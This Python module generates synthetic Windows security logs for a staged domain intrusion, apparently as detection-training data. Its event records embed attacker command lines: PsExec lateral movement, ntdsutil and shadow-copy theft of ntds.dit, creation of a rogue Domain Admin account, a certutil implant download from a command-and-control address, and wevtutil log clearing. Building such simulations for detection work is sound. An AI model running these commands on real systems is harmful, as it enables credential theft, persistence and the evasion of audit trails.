"""Day one, afternoon and evening: the servers and the domain (S15 to S22)."""

from .dice import MINUTE, SECOND, jst
from .directory import account_created, group_member, replicate
from .intrusion_entry import IMPLANT, RUN_IMPLANT
from .machine import SYSTEM32
from .world import ADDRESSES, C2_IP, DOMAIN, DOMAIN_SID, HELPDESK2, ITO, SYSTEM


def run(story, machines, logs):
    fs, dc, ap = machines["FS01"], machines["DC01"], machines["AP01"]
    beacon = psexec(story, fs)
    rdp = controller(story, dc, fs)
    new_account(story, dc, rdp)
    application(story, ap, dc, logs)
    clear_logs(story, dc, rdp)
    return beacon


def psexec(story, fs):
    pc_ip = ADDRESSES["WS-KEIRI-03"]
    with story.step("S15"):
        t = jst("14 13:10:40")
        logon = fs.logon(t, ITO, 3, pc_ip, "WS-KEIRI-03", "NTLM", key_length=0)
        share = {
            **fs.subject(logon),
            "ObjectType": "File",
            "IpAddress": pc_ip,
            "IpPort": "51877",
            "ShareName": "\\\\*\\ADMIN$",
            "ShareLocalPath": "\\??\\C:\\Windows",
        }
        fs.emit("sec.5140", t + 40_000, {**share, "AccessMask": 1, "AccessList": "%%4416"})
        fs.emit(
            "sec.5145",
            t + 90_000,
            {
                **share,
                "RelativeTargetName": "PSEXESVC.exe",
                "AccessMask": 0x12019F,
                "AccessList": "%%1538 %%4417",
                "AccessReason": "-",
            },
            rules=("admin_share_program_written",),
        )
        fs.emit(
            "sys.7045",
            t + 2 * SECOND,
            {
                "ServiceName": "PSEXESVC",
                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            user_sid=ITO.sid,
            rules=("remote_execution_service_installed",),
        )
        fs.emit(
            "sec.4697",
            t + 2 * SECOND,
            {
                **fs.subject(logon),
                "ServiceName": "PSEXESVC",
                "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": 0x10,
                "ServiceStartType": 3,
                "ServiceAccount": "LocalSystem",
            },
        )
        service = fs.start(
            t + 3 * SECOND,
            fs.services,
            "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe",
            company="Sysinternals",
            original="psexesvc.exe",
        )
        fs.sysmon(
            17,
            t + 3 * SECOND + 90_000,
            service,
            ("remote_execution_pipe",),
            EventType="CreatePipe",
            PipeName="\\PSEXESVC",
        )
        for n, suffix in enumerate(("stdin", "stdout", "stderr")):
            fs.sysmon(
                17,
                t + 4 * SECOND + n * 1000,
                service,
                ("remote_execution_pipe",),
                EventType="CreatePipe",
                PipeName=f"\\PSEXESVC-WS-KEIRI-03-6120-{suffix}",
            )
        shell = fs.start(
            t + 4 * SECOND + 20_000, service, "cmd.exe", '"cmd.exe"', rules=("remote_execution_service_starts_shell",)
        )
    with story.step("S16"):
        t = jst("14 13:14:05")
        fs.file(t, shell, IMPLANT)
        loader = fs.start(
            t + 5 * SECOND,
            shell,
            "rundll32.exe",
            RUN_IMPLANT,
            original="RUNDLL32.EXE",
            rules=("rundll32_user_writable_library",),
        )
        fs.load(t + 6 * SECOND, loader, IMPLANT, False, ("unsigned_library_loaded",))
        fs.emit(
            "sys.7045",
            t + 30 * SECOND,
            {
                "ServiceName": "rkvmzq",
                "ImagePath": "%COMSPEC% /c echo rkvmzq > \\\\.\\pipe\\rkvmzq",
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            user_sid=SYSTEM.sid,
            rules=("service_with_shell_command",),
        )
        beacon = fs.start(
            t + 50 * SECOND,
            loader,
            "rundll32.exe",
            "C:\\Windows\\System32\\rundll32.exe",
            original="RUNDLL32.EXE",
            rules=("rundll32_without_library",),
        )
        for n in range(6):
            fs.connect(t + (60 + 1800 * n) * SECOND, beacon, C2_IP, "-", 443, ("system_binary_calls_out",))
    return beacon


def controller(story, dc, fs):
    with story.step("S17"):
        t = jst("14 20:41:17")
        session = dc.logon(
            t, ITO, 10, fs.ip, "DC01", process=SYSTEM32 + "svchost.exe", rules=("controller_rdp_from_server",)
        )
        _, explorer = dc.desktop(t + 8 * SECOND, session, integrity="High")
        shell = dc.start(t + 30 * SECOND, explorer, "cmd.exe", '"C:\\Windows\\system32\\cmd.exe"', integrity="High")
    with story.step("S18"):
        t = jst("14 20:52:00")
        dc.start(
            t,
            shell,
            "ntdsutil.exe",
            'ntdsutil "ac i ntds" "ifm" "create full C:\\PerfLogs\\ad" q q',
            integrity="High",
            rules=("directory_database_copied",),
        )
        dc.start(t + 3 * MINUTE, shell, "vssadmin.exe", "vssadmin  create shadow /for=C:", integrity="High")
        for n, path in enumerate(("Windows\\NTDS\\ntds.dit", "Windows\\System32\\config\\SYSTEM")):
            dc.start(
                t + (4 + n) * MINUTE,
                shell,
                "cmd.exe",
                f"cmd  /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\{path} C:\\PerfLogs\\",
                integrity="High",
                rules=("shadow_copy_file_taken",),
            )
    with story.step("S19"):
        t = jst("14 21:05:09")
        for n in range(3):
            replicate(dc, t + n * 300_000, ITO.sid, ITO.name, session.logon_id, ("directory_replication_by_person",))
    return session, shell


def new_account(story, dc, rdp):
    session, shell = rdp
    with story.step("S20"):
        t = jst("14 21:15:33")
        dc.start(
            t,
            shell,
            "net.exe",
            "net  user svc_helpdesk2 M1nato!2026 /add /domain",
            integrity="High",
            rules=("account_added_by_net",),
        )
        account_created(
            dc,
            t + SECOND,
            session,
            HELPDESK2.name,
            HELPDESK2.sid,
            "ヘルプデスク２",
            "%%2089",
            ("password_never_expires",),
        )
        dc.start(
            t + 20 * SECOND,
            shell,
            "net.exe",
            'net  group "Domain Admins" svc_helpdesk2 /add /domain',
            integrity="High",
            rules=("account_added_by_net",),
        )
        group_member(
            dc,
            t + 21 * SECOND,
            session,
            "sec.4728",
            "CN=svc_helpdesk2,CN=Users,DC=corp,DC=minato-seiki,DC=example",
            HELPDESK2.sid,
            "Domain Admins",
            DOMAIN_SID + "-512",
            ("privileged_group_member_added",),
        )
        own = dc.logon(t + 5 * MINUTE, HELPDESK2, 3, ADDRESSES["FS01"], "FS01", "NTLM")
        group_member(
            dc,
            t + 6 * MINUTE,
            own,
            "sec.4732",
            "CN=svc_helpdesk2,CN=Users,DC=corp,DC=minato-seiki,DC=example",
            HELPDESK2.sid,
            "Backup Operators",
            "S-1-5-32-551",
            ("account_adds_itself_to_group",),
        )


def application(story, ap, dc, logs):
    with story.step("S21"):
        t = jst("14 21:40:02")
        command = f'sc  \\\\AP01 create SyncHost binPath= "cmd /c {RUN_IMPLANT}" start= auto'
        session = ap.logon(t + SECOND, HELPDESK2, 3, dc.ip, "DC01", "NTLM")
        dc.start(t, dc.svchost, "sc.exe", command, integrity="High", rules=("remote_service_created",))
        ap.emit(
            "sys.7045",
            t + 2 * SECOND,
            {
                "ServiceName": "SyncHost",
                "ImagePath": f"cmd /c {RUN_IMPLANT}",
                "ServiceType": "user mode service",
                "StartType": "auto start",
                "AccountName": "LocalSystem",
            },
            user_sid=HELPDESK2.sid,
            rules=("service_with_shell_command",),
        )
        shell = ap.start(t + MINUTE, ap.services, "cmd.exe", "cmd /c ver")
        ap.start(
            t + 2 * MINUTE,
            shell,
            "certutil.exe",
            f"certutil  -urlcache -split -f http://{C2_IP}/k.zip C:\\PerfLogs\\k.zip",
            rules=("certutil_download",),
        )
        ap.start(t + 3 * MINUTE, shell, "rundll32.exe", RUN_IMPLANT, rules=("rundll32_user_writable_library",))
        logs["proxy"].request(
            t + 2 * MINUTE,
            ap.ip,
            "-",
            "GET",
            f"http://{C2_IP}/k.zip",
            "Microsoft-CryptoAPI/10.0",
            300,
            4_100_233,
            ("download_from_bare_address",),
            kind="application/zip",
        )
        ap.logoff(t + 20 * MINUTE, session, 3)


def clear_logs(story, dc, rdp):
    session, shell = rdp
    with story.step("S22"):
        t = jst("14 21:58:40")
        for n, log in enumerate(("Security", "System", "Microsoft-Windows-PowerShell/Operational")):
            dc.start(
                t + n * 3 * SECOND,
                shell,
                "wevtutil.exe",
                f"wevtutil  cl {log}",
                integrity="High",
                rules=("event_log_cleared_command",),
            )
        dc.emit("sec.1102", t + SECOND, dc.subject(session), rules=("security_log_cleared",))
        dc.emit(
            "sys.104",
            t + 4 * SECOND,
            {"SubjectUserName": ITO.name, "SubjectDomainName": DOMAIN, "Channel": "System"},
            user_sid=ITO.sid,
            rules=("other_log_cleared",),
        )
        dc.logoff(t + 2 * MINUTE, session, 10)
